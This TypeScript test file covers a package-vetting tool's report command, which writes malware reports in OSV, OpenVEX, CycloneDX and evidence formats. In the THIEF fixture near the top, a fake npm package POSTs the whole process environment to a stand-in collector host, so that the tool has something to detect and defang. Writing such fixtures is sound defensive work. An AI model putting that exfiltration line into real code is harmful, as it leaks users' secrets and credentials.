import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { after, before, describe, it } from 'node:test';

import { Ajv } from 'ajv';

import { problemsOfOsv } from '../../src/report/community/osv-check.ts';
import { CYCLONEDX, OPENVEX, OSV_DRAFT } from '../community-shapes.ts';
import { specimen } from '../corpus/founding/inert-smtp-joined.ts';
import { makeNpmHome } from '../npm-home.ts';
import { startRegistry, tarball } from '../registry.ts';
import type { FakeRegistry } from '../registry.ts';
import { runUnmask } from './run-unmask.ts';
import type { Ran } from './run-unmask.ts';

/** It also talks to somebody who is no part of it. */
const THIEF = `exports.add = (a, b) => a + b;
exports.rates = () => fetch('https://rates.example/eur').then(answer => answer.json());
fetch('https://collector.invalid/drop', { method: 'POST', body: JSON.stringify(process.env) });
`;

describe('unmask report', () => {
  const home = makeNpmHome();
  let registry: FakeRegistry;
  const run = (...args: string[]): Promise<Ran> => runUnmask(['report', ...args], { cwd: home.cwd, env: home.env });
  const write = (path: string, content: string | Uint8Array): void => {
    mkdirSync(dirname(join(home.cwd, path)), { recursive: true });
    writeFileSync(join(home.cwd, path), content);
  };
  const archive = tarball(specimen.files);

  before(async () => {
    registry = await startRegistry({
      'inert-mailer': { versions: {}, answer: 404 },
      honest: { versions: { '1.0.0': { files: { 'index.js': 'exports.add = (a, b) => a + b;\n' } } } },
      thief: {
        versions: { '1.0.0': { files: { 'index.js': THIEF }, publishedAt: '2026-05-05T00:00:00.000Z', publisher: { name: 'somebody' } } },
      },
    });
    write('.npmrc', `registry=${registry.url}\n`);
    write('suspect.tgz', archive);
  });
  after(async () => {
    home.remove();
    await registry.close();
  });

  it('writes the text for a registry: versions, hashes, what it does, why, where, and the command', async () => {
    const { code, out, err } = await run('suspect.tgz', '--reference', 'https://example.com/post');
    assert.equal(code, 0, err);
    assert.match(out, /^Package: .+\nVersions: 1\.0\.5\n/);
    assert.match(out, new RegExp(`sha1 ${createHash('sha1').update(archive).digest('hex')}`));
    assert.match(out, /Integrity: sha512-/);
    assert.match(out, /When imported: unpacks <home>\/AppData/);
    assert.match(out, /\(proof, changes-other-application\): lib\/engine\.js:13/);
    assert.match(out, /Reference: https:\/\/example\.com\/post\n/);
    assert.match(out, /^Origin: calls itself inert-mailer@1\.0\.5, from a file; it could not be held against/m);
    assert.match(out, /To see it again: unmask vet \.\/suspect\.tgz/);
    assert.doesNotMatch(out, new RegExp(home.cwd));
    assert.match(err, /nothing was sent/);
  });

  it('writes a draft as the collection takes it, with no text of the code', async () => {
    const { code, out, err } = await run('thief', '--format', 'osv', '--credit', 'Kim');
    assert.equal(code, 0, err);
    const draft: Draft = JSON.parse(out);
    assert.deepEqual(problemsOfOsv(draft, 'draft'), []);
    assertShape(OSV_DRAFT, draft);
    const [affected] = draft.affected;
    assert.deepEqual([affected.package, affected.versions], [{ ecosystem: 'npm', name: 'thief' }, ['1.0.0']]);
    assert.deepEqual(draft.database_specific?.iocs.domains, ['collector.invalid']);
    const { package_integrity: integrity, evidence_files: files } = affected.database_specific.indicators;
    assert.equal(integrity[0].filename, 'thief-1.0.0.tgz');
    assert.match(integrity[0].hashes.sha512_sri, /^sha512-/);
    assert.deepEqual(files, [{ path: 'index.js', sha256: createHash('sha256').update(THIEF).digest('hex') }]);
    assert.deepEqual(
      draft.credits.map(one => one.type),
      ['FINDER', 'TOOL'],
    );
    assert.doesNotMatch(JSON.stringify([draft.database_specific, affected]), /rates/);
    assert.doesNotMatch(draft.details, /JSON\.stringify|process\.env\)/);
    assert.match(err, /osv\/malicious\/npm\/thief\/MAL-0000-thief-1\.0\.0\.json/);
  });

  it('writes evidence that nobody can follow or run', async () => {
    const { code, out } = await run('thief@1.0.0', '--format', 'bundle');
    assert.equal(code, 0);
    const bundle = JSON.parse(out);
    assert.deepEqual(bundle.indicators.hosts, ['collector[.]invalid']);
    assert.deepEqual([bundle.package.publisher, bundle.package.publishedAt], ['somebody', '2026-05-05T00:00:00.000Z']);
    assert.equal(bundle.command, 'unmask vet thief@1.0.0');
    assert.doesNotMatch(out, /collector\.invalid/);
    assert.ok(bundle.attack.includes('T1195.002'));
    const ajv = new Ajv({ allErrors: true, strict: false });
    const schema = JSON.parse(readFileSync(join(import.meta.dirname, '../../schema/evidence.schema.json'), 'utf8'));
    assert.ok(ajv.validate(schema, bundle), ajv.errorsText());
    assert.ok(!ajv.validate(schema, { ...JSON.parse(out), payload: 'x' }));
  });

  it('writes OpenVEX and CycloneDX with what was accepted, and of what', async () => {
    const waivers = [
      { package: 'thief@1.0.0', detector: 'sends-environment', reason: 'ours', owner: 'kim', until: '2999-01-01' },
      { package: '@a/b', detector: 'known-malicious', reason: 'a trap', owner: 'kim', until: '2999-01-01' },
      { package: 'old@1.0.0', detector: 'known-malicious', reason: 'ended', owner: 'kim', until: '2020-01-01' },
    ];
    write('policy.json', JSON.stringify({ waivers }));
    const vex = JSON.parse((await run('thief', '--format', 'openvex', '--policy', 'policy.json')).out);
    assertShape(OPENVEX, vex);
    const accepted = vex.statements.find((one: { status: string }) => one.status === 'not_affected');
    assert.deepEqual([vex['@context'], accepted.vulnerability.name], ['https://openvex.dev/ns/v0.2.0', 'sends-environment']);
    assert.deepEqual([accepted.products, accepted.impact_statement], [[{ '@id': 'pkg:npm/thief@1.0.0' }], 'ours (kim)']);
    const all = JSON.parse((await run('--format', 'openvex', '--policy', 'policy.json')).out);
    assertShape(OPENVEX, all);
    assert.deepEqual(
      all.statements.map((one: { products: readonly [{ '@id': string }] }) => one.products[0]['@id']),
      ['pkg:npm/thief@1.0.0', 'pkg:npm/%40a/b'],
    );
    const bom = JSON.parse((await run('thief', '--format', 'cyclonedx', '--policy', 'policy.json')).out);
    assertShape(CYCLONEDX, bom);
    for (const shape of [OPENVEX, CYCLONEDX, OSV_DRAFT]) assert.ok(!new Ajv({ strict: false }).validate(shape, { ...bom, more: 1 }));
    assert.deepEqual([bom.bomFormat, bom.components[0].purl], ['CycloneDX', 'pkg:npm/thief@1.0.0']);
    const waived = bom.vulnerabilities.find((one: { id: string }) => one.id === 'sends-environment');
    assert.deepEqual([waived.analysis.state, waived.affects], ['not_affected', [{ ref: 'pkg:npm/thief@1.0.0' }]]);
  });

  it('accuses nobody against whom nothing speaks, unless somebody who knows more says so', async () => {
    for (const format of ['text', 'osv', 'bundle']) {
      const { code, out, err } = await run('honest', '--format', format);
      assert.deepEqual([code, out], [2, ''], format);
      assert.match(err, /Nothing speaks against honest@1\.0\.0[\s\S]*--anyway/);
    }
    const anyway = await run('honest', '--anyway');
    assert.equal(anyway.code, 0);
    assert.match(anyway.err, /harms honest people/);
    assert.match(anyway.out, /found nothing that speaks against it/);
    const bom = await run('honest', '--format', 'cyclonedx');
    assert.equal(bom.code, 0);
    assertShape(CYCLONEDX, JSON.parse(bom.out));
  });

  it('writes no OpenVEX that would state nothing: its form has none', async () => {
    write('empty.json', '{}');
    const none = await run('--format', 'openvex', '--policy', 'empty.json');
    assert.deepEqual([none.code, none.out], [2, '']);
    assert.match(none.err, /No waiver is open/);
    const honest = await run('honest', '--format', 'openvex', '--policy', 'empty.json');
    assert.deepEqual([honest.code, honest.out], [2, '']);
    assert.match(honest.err, /honest@1\.0\.0 has no finding and no waiver/);
  });

  it('says of a folder that no hash can be told, and of bytes that are no package that there is nothing', async () => {
    for (const [path, content] of Object.entries(specimen.files))
      write(`folder/${path}`, typeof content === 'string' ? content : JSON.stringify(content));
    const folder = await run('./folder');
    assert.equal(folder.code, 0, folder.err);
    assert.match(folder.err, /It was a folder, so it holds no hash/);
    assert.doesNotMatch(folder.out, /Integrity/);
    write('broken.tgz', 'no archive at all');
    const broken = await run('broken.tgz', '--format', 'osv');
    assert.equal(broken.code, 2);
    assert.equal(broken.out, '');
  });

  it('accuses no package of a registry by a file that only bears its name', async () => {
    write('posing.tgz', tarball({ 'package.json': { name: 'honest', version: '1.0.0' }, 'index.js': THIEF }));
    const draft = await run('posing.tgz', '--format', 'osv');
    assert.deepEqual([draft.code, draft.out], [2, '']);
    assert.match(draft.err, /call themselves honest@1\.0\.0, and they are not what the registry has under that name/);
    const text = await run('posing.tgz');
    assert.equal(text.code, 0, text.err);
    assert.match(text.out, /^Origin: .*honest@1\.0\.0.*not/m);
    assert.doesNotMatch(text.err, /Report malware/);
  });

  it('writes to the file that is named, teaches, and says what is wrong with how it was asked', async () => {
    const { code, out } = await run('thief', '--format', 'osv', '--output', 'draft.json');
    assert.deepEqual([code, out], [0, '']);
    assert.equal(JSON.parse(readFileSync(join(home.cwd, 'draft.json'), 'utf8')).affected.length, 1);
    assert.match((await run('--help')).out, /unmask report bad-mailer@1\.0\.5/);
    for (const [args, says] of [
      [[], /no package to report/],
      [['thief', 'honest'], /One package is reported at a time/],
      [['thief', '--format', 'sarif'], /no format "sarif"/],
      [['thief', '--json'], /not written with --json/],
      [['thief', '--reference', 'javascript:1'], /--reference is no address/],
      [['thief', '--credit', '\u202e'], /--credit is no name/],
    ] as const) {
      const ran = await run(...args);
      assert.deepEqual([ran.code, ran.out], [2, ''], args.join(' '));
      assert.match(ran.err, says);
    }
  });
});

function assertShape(shape: object, document: unknown): void {
  const ajv = new Ajv({ allErrors: true, strict: false });
  assert.ok(ajv.validate(shape, document), ajv.errorsText());
}

interface Draft {
  readonly details: string;
  readonly affected: readonly [
    {
      readonly package: object;
      readonly versions: readonly string[];
      readonly database_specific: {
        readonly indicators: {
          readonly package_integrity: readonly [{ readonly filename: string; readonly hashes: { readonly sha512_sri: string } }];
          readonly evidence_files: readonly object[];
        };
      };
    },
  ];
  readonly credits: readonly { readonly type: string }[];
  readonly database_specific?: { readonly iocs: { readonly domains: readonly string[] } };
}
